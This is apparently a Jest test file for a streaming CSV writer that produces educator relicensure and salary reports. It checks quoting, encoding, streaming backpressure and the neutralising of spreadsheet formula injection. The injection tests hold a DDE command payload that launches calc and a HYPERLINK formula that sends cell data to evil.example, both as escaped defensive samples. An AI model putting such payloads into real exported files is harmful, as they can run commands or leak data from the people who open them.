import { PassThrough, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { laneChangeColumns, relicensureColumns, stateHourUploadColumns } from './columns';
import { createCsvStream, writeCsv } from './csv-writer';
import {
  relicensureRow,
  sampleLaneChangeRows,
  sampleRelicensureRows,
  sampleStateHourRows,
} from './__fixtures__/sample-report-data';
import type { RelicensureReportRow } from './report-rows';

async function csvText(run: (output: Writable) => Promise<unknown>): Promise<{ text: string; bytes: Buffer }> {
  const output = new PassThrough();
  const chunks: Buffer[] = [];
  output.on('data', (chunk: Buffer) => chunks.push(chunk));
  await run(output);
  const bytes = Buffer.concat(chunks);
  return { text: bytes.toString('utf8'), bytes };
}

function parseCsv(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

async function* asAsync<T>(items: readonly T[]): AsyncGenerator<T> {
  for (const item of items) yield item;
}

describe('writeCsv', () => {
  it('round-trips the relicensure rows through csv-parse', async () => {
    const rows = sampleRelicensureRows();
    const columns = relicensureColumns({
      categories: [{ id: 'literacy', label: 'Structured literacy' }],
    });
    const { text } = await csvText((output) => writeCsv(asAsync(rows), columns, output));
    const [header, ...records] = parseCsv(text);

    expect(header).toEqual(columns.map((column) => column.header));
    expect(records).toHaveLength(rows.length);
    const byKey = (record: string[], key: string) => record[columns.findIndex((column) => column.key === key)];
    records.forEach((record, index) => {
      const row = rows[index];
      expect(byKey(record, 'educatorId')).toBe(row.educatorId);
      expect(byKey(record, 'stateEducatorId')).toBe(row.stateEducatorId ?? '');
      expect(byKey(record, 'required')).toBe(row.required);
      expect(byKey(record, 'earned')).toBe(row.earned);
      expect(byKey(record, 'remaining')).toBe(row.remaining);
      expect(byKey(record, 'status')).toBe(row.status);
      expect(byKey(record, 'lastPdOn')).toBe(row.lastPdOn ?? '');
      expect(byKey(record, 'schools')).toBe(row.schools.join('; '));
    });
    // Quotes, commas and a line break inside a name survive (RFC 4180 quoting).
    expect(byKey(records[3], 'lastName')).toBe('Line\nBreak "Quoted", Comma');
    expect(byKey(records[3], 'categories')).toBe('Structured literacy: 1.5 of 3 (not met); School safety: 2 of 2');
    expect(byKey(records[3], 'category:literacy:required')).toBe('3');
    expect(byKey(records[3], 'category:literacy:earned')).toBe('1.5');
    expect(byKey(records[0], 'category:literacy:earned')).toBe('');
  });

  it('uses CRLF record separators and UTF-8, with a BOM only when asked', async () => {
    const plain = await csvText((output) => writeCsv(sampleRelicensureRows(), relicensureColumns(), output));
    expect(plain.bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(plain.text.startsWith('Educator ID,State educator ID,')).toBe(true);
    expect(plain.text.split('\r\n').length).toBeGreaterThan(40);
    expect(plain.text).toContain('José');

    const withBom = await csvText((output) =>
      writeCsv(sampleRelicensureRows(), relicensureColumns(), output, {
        bom: true,
      }),
    );
    expect(withBom.bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
  });

  it('neutralises formula injection in text cells but keeps negative numbers numeric', async () => {
    const { text } = await csvText((output) => writeCsv(sampleStateHourRows(), stateHourUploadColumns(), output));
    const [header, , hostile] = parseCsv(text);
    const cell = (key: string) => hostile[stateHourUploadColumns().findIndex((column) => column.key === key)];
    expect(header[0]).toBe('State educator ID');
    expect(cell('provider')).toBe("'@provider");
    expect(cell('activityTitle')).toBe("'-2+3+cmd|' /C calc'!A0");
    // A negative amount in a decimal column is validated as a plain number, not prefixed.
    expect(cell('amount')).toBe('-3');

    const relicensure = parseCsv(
      (await csvText((output) => writeCsv(sampleRelicensureRows(), relicensureColumns(), output))).text,
    );
    expect(relicensure[3][3]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(relicensure[3][2]).toBe("'+Smith");
  });

  it('writes money as plain dollars and negative differences as numbers', async () => {
    const rows = sampleLaneChangeRows();
    rows[0] = { ...rows[0], differenceCents: -2505 };
    const { text } = await csvText((output) => writeCsv(rows, laneChangeColumns(), output));
    const [header, first, second] = parseCsv(text);
    expect(header[10]).toBe('Difference (USD)');
    expect(first[10]).toBe('-25.05');
    expect(second[6]).toBe(centsString(rows[1].currentSalaryCents));
  });

  it('fails the stream with the column named when a value does not fit its kind', async () => {
    const rows = [relicensureRow(0), { ...relicensureRow(1), earned: '=1+1' }];
    await expect(csvText((output) => writeCsv(rows, relicensureColumns(), output))).rejects.toThrow(
      /Column "earned", data row 2/,
    );

    const stream = createCsvStream(rows, relicensureColumns());
    const failure = new Promise((_, reject) => stream.on('error', reject));
    stream.resume();
    await expect(failure).rejects.toThrow(/not a plain decimal/);
  });

  it('stops reading the source when the consumer goes away', async () => {
    let produced = 0;
    let closed = false;
    async function* endless(): AsyncGenerator<RelicensureReportRow> {
      try {
        for (;;) {
          produced += 1;
          yield relicensureRow(produced);
        }
      } finally {
        closed = true;
      }
    }
    const stream = createCsvStream(endless(), relicensureColumns());
    await new Promise<void>((resolve) => stream.once('data', () => resolve()));
    stream.destroy();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(closed).toBe(true);
    expect(produced).toBeLessThan(1000);
  });

  it('streams 100,000 rows to a slow consumer with bounded buffering', async () => {
    const total = 100_000;
    let produced = 0;
    async function* source(): AsyncGenerator<RelicensureReportRow> {
      for (let index = 0; index < total; index += 1) {
        produced += 1;
        yield relicensureRow(index);
      }
    }
    let linesSeen = 0;
    let bytes = 0;
    let maxLag = 0;
    const sink = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _encoding, callback) {
        bytes += chunk.length;
        for (let index = chunk.indexOf(10); index !== -1; index = chunk.indexOf(10, index + 1)) linesSeen += 1;
        // The producer may only run ahead by what the stream buffers hold, never by the whole file.
        maxLag = Math.max(maxLag, produced - linesSeen);
        setImmediate(callback);
      },
    });

    const result = await writeCsv(source(), relicensureColumns(), sink);

    if (process.env.REPORT_WRITERS_VERBOSE) console.log({ bytes, maxLag });
    expect(result.rowCount).toBe(total);
    expect(linesSeen).toBe(total + 1);
    expect(bytes).toBeGreaterThan(15_000_000);
    // The producer never runs more than the stream buffers ahead of the consumer, so memory stays
    // bounded by construction. Heap figures depend on when the collector runs, so the memory
    // budget itself is measured by `npm run bench:reports`, not asserted here.
    expect(maxLag).toBeLessThan(1_000);
  });
});

function centsString(cents: number): string {
  return `${Math.trunc(cents / 100)}.${String(cents % 100).padStart(2, '0')}`;
}
